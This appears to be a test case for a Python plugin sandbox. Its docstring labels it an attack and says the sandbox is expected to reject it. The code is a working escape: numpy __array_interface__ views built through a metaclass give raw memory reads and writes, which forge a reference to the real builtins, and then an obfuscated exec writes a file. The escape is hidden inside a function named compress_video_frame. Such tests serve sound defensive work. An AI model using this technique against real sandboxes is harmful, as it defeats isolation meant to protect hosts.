"""Attack: a class that derives from `type` is a metaclass without the `metaclass=` keyword
the old rule looked for: Meta(name, bases, namespace) makes a class with a computed
"__array_interface__", which maps memory; the attack forges a reference to the real
builtins and runs code from a string with their exec, code that writes a file on the host.

Expected: rejected statically (`type` is only ever called, with one argument; it passed
validation before). With static validation off compiling the string trips the audit hook
(violation); seccomp kills the write-open the code attempts, Landlock refuses it and
bubblewrap confines it.
"""
import lzma

import numpy as np

SPECIAL = "_" * 2 + "array_interface" + "_" * 2


class Meta(type):
    pass


def address_of(value):
    return int(repr(value).rsplit(" ", 1)[1].rstrip(">"), 16)  # "<function f at 0x7f...>"


def memory(address, size):
    interface = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    return np.asarray(Meta("View", (), {SPECIAL: interface})())


def word(address, value=None):
    if value is not None:
        memory(address, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
    return int.from_bytes(memory(address, 8).tobytes(), "little")


def holder(value=None):
    return value


def object_at(address):
    word(address, word(address) + 1)
    word(word(address_of(holder) + 56) + 24, address)  # holder's first default
    return holder()


def compress_video_frame(frame, frame_index, config):
    real_builtins = object_at(word(address_of(lzma.compress) + 24))
    path = f"{config['target_dir']}/meaning_type_subclass"
    real_builtins["ex" + "ec"]("print('pwned', file=op" + f"en({path!r}, 'w'), flush=True)")
    return b"ESCAPED:ran code from a string"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
